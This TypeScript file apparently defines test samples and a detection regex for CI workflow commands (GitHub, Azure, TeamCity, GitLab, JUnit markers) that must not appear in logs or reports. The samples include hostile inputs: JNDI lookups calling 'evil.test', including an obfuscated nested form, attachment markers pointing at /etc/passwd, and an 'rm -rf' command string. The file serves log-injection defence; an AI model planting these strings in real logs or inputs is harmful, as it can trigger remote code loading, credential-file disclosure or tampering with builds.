/** The commands that CI systems execute from a log or a report. */
export const COMMANDS: readonly (readonly [of: string, text: string])[] = [
  ['GitHub', '::error file=a,line=1::hurt'],
  ['GitHub, with blanks ahead', '  ::add-mask::x'],
  ['GitHub, stop', '::stop-commands::x'],
  ['GitHub, a short name', '::echo::on'],
  ['GitHub, the old form', 'seen ##[command]rm -rf'],
  ['GitHub, a group', '##[group]x'],
  ['Azure', 'seen ##vso[task.setvariable variable=a]b'],
  ['Azure, upper case', '##VSO[task.complete]'],
  ['Azure, after a #', '###vso[task.complete]'],
  ['TeamCity', "##teamcity[buildStatus status='SUCCESS']"],
  ['Octopus', "##octopus[setVariable name='x']"],
  ['Buildkite', '--- a section'],
  ['Buildkite, opened', '+++ a section'],
  ['Buildkite, muted', '~~~ a section'],
  ['Buildkite, the one before', '^^^ +++'],
  ['GitLab', 'section_start:1560896352:name\r\u001b[0Kx'],
  ['GitLab, the end', 'section_end:1560896353:name'],
  ['Travis', 'travis_fold:start:x'],
  ['Travis, a time', 'travis_time:end:1'],
  ['JUnit attachments', 'a [[ATTACHMENT|/etc/passwd]] b'],
  ['JUnit attachments, with blanks', '[[ Attachment | /etc/passwd]]'],
  ['JUnit properties', '[[PROPERTY|a=b]]'],
  ['a lookup', 'a ${jndi:ldap://evil.test/x} b'],
  ['a lookup in a lookup', '${${lower:j}ndi:ldap://evil.test}'],
  ['a lookup in a lookup, without a colon ahead', '${${x}}'],
];

/** Matches the commands that a CI system would execute; no log and no report may contain one. */
export const OBEYED =
  /(^|\n)[ \t]*::[a-z]|##[\w.-]*\[|(^|\n)[ \t]*(---|\+\+\+|~~~|\^\^\^)(\s|$)|section_(start|end):|travis_(fold|time):|\[\[\s*\w+\s*\||\$\{[^{}]*(:|\$\{)/i;
